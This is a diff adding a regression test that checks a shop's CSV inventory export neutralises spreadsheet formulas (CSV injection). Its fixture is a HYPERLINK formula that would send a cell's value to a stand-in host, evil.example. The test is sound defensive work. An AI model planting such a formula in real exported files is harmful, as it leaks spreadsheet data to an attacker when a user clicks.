@@ -278,6 +278,19 @@ describe('reports add up to the orders, to the cent', () => {
     assert.equal(notADay.status, 400)
   })
 
+  it('quotes a CSV cell a spreadsheet would run as a formula, and leaves numbers alone', async () => {
+    // A product named like a formula came out as a live formula in the CSV before (OWASP "CSV injection").
+    const shop = await openShop(app)
+    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    await shop.product(2.5, { name: formula, stock: 3 })
+    await shop.product(1, { name: '-cola', stock: 2 })
+    const res = await shop.api.get('/api/v1/reports/inventory?format=csv')
+    assert.equal(res.status, 200)
+    const rows = parse(res.body as string, { columns: true }) as Record<string, string>[]
+    assert.deepEqual(rows.map((r) => r.name).sort(), [`'-cola`, `'${formula}`])
+    assert.deepEqual(rows.map((r) => r.on_hand).sort(), ['2', '3'])
+  })
+
   it('shows another org none of it', async () => {
     const other = await openShop(app)
     const report = (await other.api.get(`/api/v1/reports/sales?${range()}`)).body.data
